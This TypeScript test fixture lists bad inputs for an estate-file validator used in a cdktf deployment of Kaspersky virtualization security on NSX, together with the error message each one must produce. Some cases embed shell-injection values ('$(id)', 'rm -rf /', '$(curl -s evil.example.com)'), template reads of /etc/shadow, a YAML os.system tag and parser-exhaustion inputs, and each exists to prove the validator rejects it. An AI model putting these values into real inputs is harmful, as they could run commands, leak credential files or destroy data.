import * as fs from "fs";
import * as path from "path";
import { parse as parseYaml } from "yaml";
import * as zlib from "zlib";
import { repoRoot } from "../support/workspace";

/*
 * Estates as people get them wrong, and what `cdktf synth` must then say: the path of the
 * problem and a message a person can act on. Files under corpus/ are small hand-written text;
 * what is big, binary or not a file at all is generated at test time (see `generate`).
 */

export const CORPUS_DIR = path.join(__dirname, "corpus");
export const EXAMPLE_ESTATE = path.join(repoRoot, "stacks", "example-estate.yaml");

export interface BadInputCase {
  /** corpus/<file>, or the name of a generated case. */
  readonly name: string;
  /** Writes the input into `dir` (a temp folder) and returns what KSV_ESTATE is set to. */
  readonly generate?: (dir: string) => string;
  /** Where the problem is, as printed: `managers[0].clusters[0].hosts[1]`, or `(file)`. */
  readonly path: string;
  /** What is said about it: text the line contains after `<path>: `, or a pattern it matches. */
  readonly message: string | RegExp;
  /** Must appear elsewhere in the error output too. */
  readonly alsoSays?: RegExp;
  /** Must not appear anywhere in the output (secrets a user typed where they do not belong). */
  readonly neverShown?: readonly string[];
  /**
   * How many problems the input has in all (default 1), so that a case fails for its own reason
   * and not also for another: a stale corpus file cannot pass on a message it was not written for.
   */
  readonly problems?: number;
}

const corpus = (name: string, at: string, message: string | RegExp, extra = {}): BadInputCase => ({
  name,
  path: at,
  message,
  ...extra,
});

const INVALID_HOST = "is not a valid host name or IPv4 address";
const NOT_A_NETWORK = "is not an IP address or a subnet (e.g. 10.0.5.7, 10.0.5.0/24, fd00::/64)";
const NOT_A_WEB_ADDRESS =
  "is not a web address or mask (e.g. https://intranet.example.local/ or *.example.com/*)";
const NOT_A_RULE_ID =
  "is not a detection rule ID; write it as Kaspersky Security Center events show it, <number>:<number>:<number>";
const BLOCK_MINUTES_UNUSED =
  "only applies when networkAttack.action or networkActivity.action is terminate-and-block; remove it or change an action";
const VLAN_VALUES =
  'must be "none" (traffic without a VLAN tag), a VLAN ID from 1 to 4094, or "any" (traffic with any tag: the product\'s vlan 4095)';
const NOT_A_REASON =
  "is not a valid reason: one line of letters, digits, spaces and . , ; : ! ? ' \" ( ) / & % # @ + = * -, starting with a letter or digit, at most 300 characters";
const INTROSPECTION = "managers[0].introspection";
const EXCLUSION = "managers[0].policy.exclusions";

function example(): string {
  return fs.readFileSync(EXAMPLE_ESTATE, "utf8");
}

/** Line and column (1-based) where `text` first appears in the example estate. */
function exampleLocation(text: string): { line: number; column: number } {
  const before = example().slice(0, example().indexOf(text)).split("\n");
  return { line: before.length, column: before[before.length - 1].length + 1 };
}

/** Where the Latin-1 case below writes its cluster name. */
const PROD_A = exampleLocation("name: prod-a");

/**
 * A small valid estate, for the cases that cannot be files in the repository: Prettier checks
 * every .yaml and .json file there, and stops at one that does not parse.
 */
const SMALL_ESTATE = `version: 1
resourceType: terraform_data
ksc: { address: ksc.example.local }
managers:
  - name: dc1-nsxv
    kind: nsx-v
    address: nsx.dc1.example.local
    lockTrafficMode: false
    svmImageUrl: https://repo.example.local/ksv/ntp-svm.ovf
    clusters:
      - name: prod-a
        datastore: ds-prod-a
        network: pg-svm-mgmt
        hosts: [esx-a1.dc1.example.local, esx-a2.dc1.example.local]
      - name: prod-b
        datastore: ds-prod-b
        network: pg-svm-mgmt
        hosts: [esx-b1.dc1.example.local]
`;

function write(dir: string, name: string, content: string | Buffer): string {
  const file = path.join(dir, name);
  fs.writeFileSync(file, content);
  return file;
}

export const BAD_INPUT_CASES: readonly BadInputCase[] = [
  // Types
  corpus("01-version-as-text.yaml", "version", 'must be 1, got the text "1"'),
  corpus("02-version-2.yaml", "version", "must be 1, got 2"),
  corpus("05-managers-as-mapping.yaml", "managers", "expected a list, got a mapping"),
  corpus("06-port-as-text.json", "ksc.port", 'expected a number, got the text "13000"'),
  corpus(
    "09-lock-yes.yaml",
    "managers[0].lockTrafficMode",
    'expected true or false, got the text "yes"',
  ),
  corpus(
    "10-hosts-as-text.yaml",
    "managers[0].clusters[0].hosts",
    'expected a list, got the text "esx-a1.dc1.example.local"',
  ),
  corpus("50-hook-as-list.yaml", "hooks.register", "expected a text value, got a list"),
  corpus("51-top-level-list.yaml", "(file)", "expected a mapping (key: value), got a list"),
  corpus(
    "58-cluster-not-a-mapping.yaml",
    "managers[0].clusters[0]",
    'expected a mapping (key: value), got the text "prod-a"',
  ),
  corpus("59-json-null-manager.json", "managers[1]", "expected a mapping (key: value), got null"),
  corpus(
    "60-json-hosts-numbers.json",
    "managers[0].clusters[0].hosts[1]",
    "expected a text value, got 10",
    {
      alsoSays: /managers\[0\]\.clusters\[0\]\.hosts\[2\]: expected a text value, got 3\.5/,
      problems: 2,
    },
  ),
  corpus(
    "18-kind-uppercase.yaml",
    "managers[0].kind",
    'must be one of nsx-v, nsx-t; got the text "NSX-V"; did you mean "nsx-v"?',
  ),
  corpus(
    "55-traffic-mode-typo.yaml",
    "managers[0].trafficMode",
    'must be one of standard, monitoring; got the text "monitor"; did you mean "monitoring"?',
  ),
  corpus("44-backend-s3.yaml", "backend.type", 'must be one of local, pg; got the text "s3"'),

  // Missing fields
  corpus("03-missing-version.yaml", "version", "is required (must be 1)"),
  corpus("04-missing-ksc.yaml", "ksc", "is required"),
  corpus("11-missing-svm-image-url.yaml", "managers[0].svmImageUrl", "is required"),
  corpus("12-missing-datastore.json", "managers[0].clusters[0].datastore", "is required"),

  // Unknown keys, credentials
  corpus(
    "13-unknown-top-level-key.yaml",
    "resourcetype",
    'unknown key "resourcetype"; did you mean "resourceType"? (allowed here: $schema, version, resourceType, backend, ksc, hooks, managers, drift, acknowledge)',
  ),
  corpus(
    "14-unknown-nested-key.yaml",
    "managers[0].clusters[0].host",
    'unknown key "host"; did you mean "hosts"? (allowed here: name, datastore, network, ipPool, computeManager, hosts)',
    { alsoSays: /managers\[0\]\.clusters\[0\]\.hosts: is required/, problems: 2 },
  ),
  corpus(
    "88-unknown-hook-typo.yaml",
    "hooks.createSegmnt",
    'unknown key "createSegmnt"; did you mean "createSegment"?',
  ),
  corpus(
    "15-unknown-policy-key.yaml",
    "managers[0].policy.networkAtack",
    'unknown key "networkAtack"; did you mean "networkAttack"?',
  ),
  corpus(
    "16-password-in-manager.yaml",
    "managers[0].password",
    'unknown key "password"; the estate holds no credentials: hooks read them from the environment of terraform',
    // username too: the same answer for each
    { neverShown: ["Secr3t-in-estate"], problems: 2 },
  ),
  corpus("17-password-in-ksc.json", "ksc.password", 'unknown key "password"', {
    neverShown: ["Secr3t-in-ksc"],
  }),
  corpus(
    "29-image-url-credentials.yaml",
    "managers[0].svmImageUrl",
    "must not carry credentials (user:password@); the estate holds no secrets",
    { neverShown: ["Hunter2-in-url"] },
  ),

  // Uniqueness
  corpus(
    "19-duplicate-host-across-clusters.yaml",
    "managers[0].clusters[1].hosts[0]",
    'host "esx-a1.dc1.example.local" is already listed at managers[0].clusters[0].hosts[0]; each host gets one SVM, so list it once in the whole estate',
  ),
  corpus(
    "20-duplicate-host-across-managers.yaml",
    "managers[1].clusters[0].hosts[0]",
    'host "ESX-A2.DC1.EXAMPLE.LOCAL." is already listed at managers[0].clusters[0].hosts[1]',
  ),
  corpus(
    "21-duplicate-manager-name.yaml",
    "managers[1].name",
    '"dc1-nsxv" is already the name of managers[0]; manager names must be unique',
  ),
  corpus(
    "39-duplicate-yaml-key.yaml",
    "managers[0].kind",
    /^is set twice in the same mapping \(first on line 7\); keep one \(line 10, column 5\)$/,
  ),

  // Grammars: host names, addresses, names (shell never gets through)
  corpus("22-host-ip-300.yaml", "managers[0].clusters[0].hosts[1]", `"10.0.0.300" ${INVALID_HOST}`),
  corpus(
    "23-host-underscore.yaml",
    "managers[0].clusters[0].hosts[1]",
    `"esx_1.dc1.example.local" ${INVALID_HOST}`,
  ),
  corpus(
    "24-host-semicolon.yaml",
    "managers[0].clusters[0].hosts[1]",
    `"esx-a3; touch /tmp/ksv-pwned" ${INVALID_HOST}`,
  ),
  corpus(
    "25-host-command-substitution.yaml",
    "managers[0].clusters[0].hosts[1]",
    `"$(id)" ${INVALID_HOST}`,
  ),
  corpus(
    "26-address-backticks.yaml",
    "managers[0].address",
    `"\`id\`.dc1.example.local" ${INVALID_HOST}`,
  ),
  // The newline is shown escaped: one problem, one line.
  corpus(
    "27-ksc-address-newline.json",
    "ksc.address",
    `"ksc.example.local\\nrm -rf /" ${INVALID_HOST}`,
  ),
  corpus(
    "52-cluster-name-shell.yaml",
    "managers[0].clusters[0].name",
    '"prod-a $(reboot)" is not a valid vSphere name',
  ),
  corpus(
    "53-manager-name-shell.yaml",
    "managers[0].name",
    `must be lowercase letters, digits and '-', starting with a letter (at most 63); got "dc1; rm -rf ~"`,
    {
      alsoSays: new RegExp(
        `managers\\[0\\]\\.address: "nsx.'dc1; rm -rf ~'.example.local" ${INVALID_HOST}`,
      ),
      problems: 2,
    },
  ),
  corpus(
    "86-ip-pool-semicolon.yaml",
    "managers[0].clusters[0].ipPool",
    `"svm-pool; rm -rf /" is not a valid NSX IP pool name`,
  ),
  corpus(
    "87-ip-pool-newline.yaml",
    "managers[0].clusters[0].ipPool",
    `"svm-pool\\nrm -rf /" is not a valid NSX IP pool name`,
  ),

  // What NSX redirects: groups, ordered rules, the failure policy
  corpus(
    "89-rule-names-undefined-group.yaml",
    `${INTROSPECTION}.rules[0].destinations[0]`,
    'group "db" is not defined in introspection.groups; define it there, or name "any"',
  ),
  corpus(
    "90-group-defined-twice.yaml",
    `${INTROSPECTION}.groups[1].name`,
    'group "web" is already defined at groups[0]; define each group once',
  ),
  corpus("91-group-members-empty.yaml", `${INTROSPECTION}.groups[0].members`, "must not be empty"),
  corpus(
    "92-group-named-any.yaml",
    `${INTROSPECTION}.groups[0].name`,
    '"any" is reserved: in rules it means every VM; name the group otherwise',
  ),
  corpus(
    "93-member-two-criteria.yaml",
    `${INTROSPECTION}.groups[0].members[0]`,
    "must be one criterion: { tag: <tag>, scope?: <scope> }, { vmNameStartsWith: <text> } or { ipAddress: <address or subnet> }",
  ),
  corpus(
    "94-rule-action-unknown.yaml",
    `${INTROSPECTION}.rules[0].action`,
    'must be one of redirect, do-not-redirect; got the text "block"',
  ),
  corpus(
    "95-rule-direction-unknown.yaml",
    `${INTROSPECTION}.rules[0].direction`,
    'must be one of in, out, in-out; got the text "both"',
  ),
  corpus(
    "96-rule-name-twice.yaml",
    `${INTROSPECTION}.rules[1].name`,
    'rule "protect-web" is already the name of rules[0]; rule names must be unique',
  ),
  corpus(
    "97-member-tag-template.yaml",
    `${INTROSPECTION}.groups[0].members[0].tag`,
    '"${file(\\"/etc/passwd\\")}" is not a valid NSX tag',
  ),
  corpus(
    "98-member-ip-host-bits.yaml",
    `${INTROSPECTION}.groups[0].members[0].ipAddress`,
    '"10.0.8.1/24" has host bits set; did you mean 10.0.8.0/24?',
  ),
  corpus(
    "99-failure-policy-typo.yaml",
    `${INTROSPECTION}.failurePolicy`,
    'must be one of allow, block; got the text "fail-open"',
  ),
  corpus(
    "100-network-attack-enabled-text.yaml",
    "managers[0].policy.networkAttack.enabled",
    'expected true or false, got the text "no"',
  ),
  corpus(
    "101-compute-manager-shell.yaml",
    "managers[0].clusters[0].computeManager",
    '"vc1 && reboot" is not a valid compute manager name',
  ),

  // Acknowledged warnings: warnings only, with a reason that stays out of shells and templates
  corpus(
    "102-acknowledge-error-rule.yaml",
    "acknowledge[0].rule",
    "KSV-NSXT-STANDARD-ONLY is an error, not a warning: it stops the synth because the deployment cannot work as written, so it cannot be acknowledged; change the estate so that it passes",
  ),
  corpus(
    "103-acknowledge-unknown-rule.yaml",
    "acknowledge[0].rule",
    'must be one of KSV-MONITORING-NO-ACTION, KSV-WEB-KSN, KSV-NSXT-IPV4-ONLY, KSV-EXCLUSION-SHADOWED, KSV-NO-REDIRECTION, KSV-GROUP-UNUSED, KSV-EXCLUSION-EVERYTHING, KSV-WEB-TRUST-EVERYTHING; got the text "KSV-WEB-KNS"; did you mean "KSV-WEB-KSN"?',
  ),
  corpus(
    "104-acknowledge-unknown-manager.yaml",
    "acknowledge[0].manager",
    'no manager "dc2-nsx" in this estate; did you mean "dc2-nsxt"? (managers: dc2-nsxt)',
  ),
  corpus(
    "105-acknowledge-reason-template.yaml",
    "acknowledge[0].reason",
    `"ok \${file(\\"/etc/shadow\\")}" ${NOT_A_REASON}`,
  ),
  corpus(
    "106-acknowledge-reason-missing.yaml",
    "acknowledge[0].reason",
    "is required: say why the site accepts the warning",
  ),
  corpus(
    "107-acknowledge-twice.yaml",
    "acknowledge[1].rule",
    '"KSV-WEB-KSN" is already acknowledged for every manager at acknowledge[0]; keep one',
  ),
  // The line break is shown escaped: one problem, one line.
  corpus(
    "108-acknowledge-reason-two-lines.yaml",
    "acknowledge[0].reason",
    `"Global KSN is on\\n$(reboot)\\n" ${NOT_A_REASON}`,
  ),

  // Numbers and URLs
  corpus("07-port-zero.yaml", "ksc.port", "must be at least 1, got 0"),
  corpus("08-port-70000.yaml", "ksc.port", "must be at most 65535, got 70000"),
  corpus(
    "28-image-url-ftp.yaml",
    "managers[0].svmImageUrl",
    "must be an http:// or https:// URL, not ftp://",
  ),
  corpus(
    "30-image-url-not-ovf.yaml",
    "managers[0].svmImageUrl",
    "must point to an OVF or XML image description (.ovf or .xml)",
  ),
  corpus(
    "56-hook-template-too-long.yaml",
    "hooks.applyPolicy",
    "is too long (at most 4096 characters)",
  ),

  // Empty lists
  corpus("31-empty-clusters.yaml", "managers[0].clusters", "must not be empty"),
  corpus("32-empty-hosts.yaml", "managers[0].clusters[0].hosts", "must not be empty"),
  corpus(
    "54-web-categories-empty.yaml",
    "managers[0].policy.webAddresses.categories",
    "must name at least one category while the scan is enabled; set enabled: false to turn it off",
  ),

  // Rules and combinations
  corpus(
    "33-nsxt-monitoring.yaml",
    "managers[0].trafficMode",
    "manager dc2-nsxt is an NSX-T Manager, where Network Threat Protection always runs in Standard mode; monitoring is not possible",
  ),
  corpus(
    "34-block-minutes-with-terminate.yaml",
    "managers[0].policy.blockMinutes",
    BLOCK_MINUTES_UNUSED,
  ),
  corpus(
    "68-block-minutes-nothing-blocks.yaml",
    "managers[0].policy.blockMinutes",
    BLOCK_MINUTES_UNUSED,
  ),
  corpus(
    "45-pg-schema-too-long.yaml",
    "managers[0].name",
    /with backend pg and schemaPer "stack", this manager's state goes to the PostgreSQL schema "ksv_state_production_datacenter_frankfurt_main_nsxv_cluster_manager_01", 70 characters; PostgreSQL cuts names at 63, .*at most 42 characters/,
  ),
  corpus(
    "46-pg-one-schema-two-managers.yaml",
    "backend.schemaPer",
    `"estate" keeps every stack's state in one schema`,
  ),

  // Networks: an exclusion's source, one address or a subnet
  corpus(
    "35-cidr-host-bits.yaml",
    `${EXCLUSION}[1].source`,
    '"10.0.5.1/24" has host bits set; did you mean 10.0.5.0/24?',
  ),
  corpus("36-cidr-prefix-33.yaml", `${EXCLUSION}[1].source`, `"10.0.5.0/33" ${NOT_A_NETWORK}`),
  corpus("37-cidr-garbage.yaml", `${EXCLUSION}[1].source`, `"office-lan/24" ${NOT_A_NETWORK}`),
  corpus("57-ipv6-prefix-129.yaml", `${EXCLUSION}[1].source`, `"fd00::/129" ${NOT_A_NETWORK}`),
  corpus(
    "83-exclusion-source-garbage.yaml",
    `${EXCLUSION}[0].source`,
    '"office-printer" is not an IP address or a subnet (e.g. 10.0.5.7, 10.0.5.0/24, fd00::/64)',
  ),
  corpus(
    "84-exclusion-ipv6-host-bits.yaml",
    `${EXCLUSION}[0].source`,
    '"fd00:5::1/64" has host bits set; did you mean fd00:5::/64?',
  ),

  // Exclusions: VLAN, rule, scope
  corpus(
    "77-exclusion-vlan-4095.yaml",
    `${EXCLUSION}[0].vlan`,
    'VLAN 4095 means any tag: write "any"',
  ),
  corpus(
    "78-exclusion-vlan-0.yaml",
    `${EXCLUSION}[0].vlan`,
    'traffic without a VLAN tag is "none"',
  ),
  corpus("79-exclusion-vlan-5000.yaml", `${EXCLUSION}[0].vlan`, VLAN_VALUES),
  corpus("80-exclusion-vlan-text.yaml", `${EXCLUSION}[0].vlan`, VLAN_VALUES),
  corpus(
    "81-exclusion-rule-missing.yaml",
    `${EXCLUSION}[0].rule`,
    "is required (one of default, do-not-scan, do-not-block)",
  ),
  corpus(
    "82-exclusion-rule-unknown.yaml",
    `${EXCLUSION}[0].rule`,
    'must be one of default, do-not-scan, do-not-block; got the text "skip"',
  ),
  // Two exclusions of one scope are the product's to allow (KSV help 67238): a warning now
  // (test/unit/estate.test.ts), no longer a bad input.

  // Threat policy: actions, block time, detection rules, trusted web addresses
  corpus(
    "67-network-activity-action-block.yaml",
    "managers[0].policy.networkActivity.action",
    '"block" is now "terminate-and-block" (terminate the connection and block traffic from the source for policy.blockMinutes)',
  ),
  corpus(
    "69-block-minutes-zero.yaml",
    "managers[0].policy.blockMinutes",
    "must be at least 1, got 0",
  ),
  corpus(
    "70-block-minutes-over-a-week.yaml",
    "managers[0].policy.blockMinutes",
    "must be at most 10080, got 10081",
  ),
  corpus(
    "71-ignored-rule-format.yaml",
    "managers[0].policy.networkActivity.ignoredRules[1]",
    `"Exploit.Win32.CVE-2017-0144" ${NOT_A_RULE_ID}`,
  ),
  corpus(
    "72-ignored-rule-duplicate.yaml",
    "managers[0].policy.networkActivity.ignoredRules[2]",
    '"3:1:2" is listed twice',
  ),
  corpus(
    "73-trusted-address-space.yaml",
    "managers[0].policy.webAddresses.trustedAddresses[1]",
    `"https://intranet.example.local/my docs/" ${NOT_A_WEB_ADDRESS}`,
  ),
  corpus(
    "74-trusted-address-command-substitution.yaml",
    "managers[0].policy.webAddresses.trustedAddresses[0]",
    `"https://$(curl -s evil.example.com)/" ${NOT_A_WEB_ADDRESS}`,
  ),
  corpus(
    "75-trusted-address-template.yaml",
    "managers[0].policy.webAddresses.trustedAddresses[0]",
    `"https://\${file(\\"/etc/shadow\\")}.example.local/" ${NOT_A_WEB_ADDRESS}`,
  ),
  corpus(
    "76-trusted-address-duplicate.yaml",
    "managers[0].policy.webAddresses.trustedAddresses[2]",
    '"*.example.com/*" is listed twice',
  ),

  // Removed fields: the error names what replaced them
  corpus(
    "62-exclusion-cidr-removed.yaml",
    `${EXCLUSION}[0].cidr`,
    '"cidr" was removed: use source (an IP address or subnet, e.g. 10.0.5.0/24)',
  ),
  corpus(
    "63-exclusion-direction-removed.yaml",
    `${EXCLUSION}[0].direction`,
    '"direction" was removed: Kaspersky Security Center exclusions have no direction; remove it, and exclude inbound or outbound traffic in the NSX policy instead',
  ),
  corpus(
    "64-network-attack-block-minutes-removed.yaml",
    "managers[0].policy.networkAttack.blockMinutes",
    '"blockMinutes" was removed: set policy.blockMinutes instead: one block time for network attacks and suspicious network activity',
  ),
  corpus(
    "65-hook-deploy-svm-removed.yaml",
    "hooks.deploySvm",
    '"deploySvm" was removed: use deploySvms: NSX deploys SVMs per vSphere cluster, so the hook runs once per cluster',
  ),
  corpus(
    "66-hook-remove-svm-removed.yaml",
    "hooks.removeSvm",
    '"removeSvm" was removed: use removeSvms: it runs once per cluster',
  ),

  // Syntax and the file itself
  corpus(
    "47-two-documents.yaml",
    "(file)",
    "holds more than one YAML document (a line with --- starts another); an estate is one document (line 15, column 1)",
  ),
  corpus(
    "49-unknown-tag.yaml",
    "(file)",
    "not usable in an estate file: Unresolved tag: tag:yaml.org,2002:python/object:os.system (line 2, column 10)",
  ),
  corpus(
    "61-list-as-key.yaml",
    "managers[0].clusters[0]",
    "has a key that is a list or mapping; keys are plain names (line 11, column 9)",
  ),
  corpus("40-empty-file.yaml", "(file)", "is empty; start from stacks/example-estate.yaml"),
  corpus(
    "41-only-comments.yaml",
    "(file)",
    "holds only comments; start from stacks/example-estate.yaml",
  ),
  corpus(
    "42-alias-bomb.yaml",
    "(file)",
    "expands YAML aliases (*name) more than 100 times, which an estate never needs; write the values out",
  ),

  // Syntax errors: text written at test time (Prettier would refuse these files in the tree)
  {
    name: "an unclosed [ (YAML syntax error)",
    generate: (dir) =>
      write(
        dir,
        "unclosed.yaml",
        SMALL_ESTATE.replace("esx-a2.dc1.example.local]", "esx-a2.dc1.example.local"),
      ),
    path: "(file)",
    message:
      /^not valid YAML or JSON: Flow sequence in block collection must be sufficiently indented and end with a \] \(line 15, column 7\)$/,
  },
  {
    name: "a tab used for indentation",
    generate: (dir) =>
      write(dir, "tab.yaml", SMALL_ESTATE.replace("    lockTrafficMode", "\tlockTrafficMode")),
    path: "(file)",
    message: "not valid YAML or JSON: Tabs are not allowed as indentation (line 8, column 1)",
  },
  {
    name: "JSON without its closing brace",
    generate: (dir) => {
      const json = JSON.stringify(parseYaml(SMALL_ESTATE), null, 2);
      return write(dir, "estate.json", json.slice(0, json.lastIndexOf("}")));
    },
    path: "(file)",
    message: /^not valid YAML or JSON: Flow map must end with a \} \(line \d+, column \d+\)$/,
  },

  // Generated at test time: too big, binary, or no file at all
  {
    name: "missing file",
    generate: (dir) => path.join(dir, "no-such-estate.yaml"),
    path: "(file)",
    message:
      "file not found; set KSV_ESTATE to the path of your estate file (relative to the current folder)",
  },
  {
    name: "a directory",
    generate: (dir) => {
      const folder = path.join(dir, "stacks");
      fs.mkdirSync(folder, { recursive: true });
      return folder;
    },
    path: "(file)",
    message: "is a folder; KSV_ESTATE must name an estate file (.yaml or .json)",
  },
  {
    name: "a 50 MB file",
    generate: (dir) =>
      write(dir, "huge.yaml", Buffer.concat([Buffer.from(example()), Buffer.alloc(50 << 20, "#")])),
    path: "(file)",
    message: /^is 50\.0 MB; an estate file is at most 16 MB/,
  },
  {
    name: "deeply nested junk (a million [)",
    generate: (dir) =>
      write(dir, "deep-flow.yaml", `version: 1\nmanagers: ${"[".repeat(1_000_000)}`),
    path: "(file)",
    message:
      /^is nested more than 64 levels deep, where an estate file needs 6; look for unclosed \[ or \{ brackets \(line 2, column \d+\)$/,
  },
  {
    name: "deeply nested junk (100,000 nested block sequences)",
    generate: (dir) =>
      write(dir, "deep-block.yaml", `version: 1\nmanagers:\n${"- ".repeat(100_000)}x\n`),
    path: "(file)",
    message: /^is nested more than 64 levels deep/,
  },
  {
    name: "non-UTF-8 bytes (Latin-1 ü in a cluster name)",
    generate: (dir) =>
      write(
        dir,
        "latin1.yaml",
        Buffer.from(example().replace("name: prod-a", "name: Zürich"), "latin1"),
      ),
    path: "(file)",
    // At the ü of "name: Zürich".
    message: new RegExp(
      `^is not UTF-8 text \\(byte 0xfc at offset \\d+\\); save it as UTF-8 \\(line ${PROD_A.line}, column ${PROD_A.column + "name: Z".length}\\)$`,
    ),
  },
  {
    name: "UTF-16 (an editor's 'Unicode')",
    generate: (dir) => write(dir, "utf16.yaml", Buffer.from(`\ufeff${example()}`, "utf16le")),
    path: "(file)",
    message: "is not UTF-8 text (byte 0xff at offset 0); save it as UTF-8",
  },
  {
    name: "a gzip archive given as the estate",
    generate: (dir) => write(dir, "estate.yaml.gz", zlib.gzipSync(example())),
    path: "(file)",
    message: /^is not UTF-8 text \(byte 0x8b at offset 1\)/,
  },
  {
    name: "NUL bytes in otherwise valid UTF-8",
    generate: (dir) =>
      write(dir, "nul.yaml", example().replace("version: 1", "version: 1\0\0\0\0")),
    path: "(file)",
    message:
      "contains NUL bytes, so it is not a text file (or it is UTF-16); save it as UTF-8 text",
  },
  {
    name: "5,000 problems (a column of inventory IDs pasted as hosts)",
    generate: (dir) => {
      const ids = Array.from({ length: 5000 }, (_, i) => `vm_host_${i}`).join(", ");
      return write(
        dir,
        "inventory.yaml",
        example().replace(/hosts: \[esx-e1[^\]]*\]/, `hosts: [${ids}]`),
      );
    },
    path: "managers[1].clusters[0].hosts[0]",
    message: `"vm_host_0" ${INVALID_HOST}`,
    problems: 5000,
    alsoSays:
      /^ksv synth: .*inventory\.yaml: 5000 problems:$[\s\S]*^ {2}\.\.\. and 4900 more; fix these first/m,
  },
];
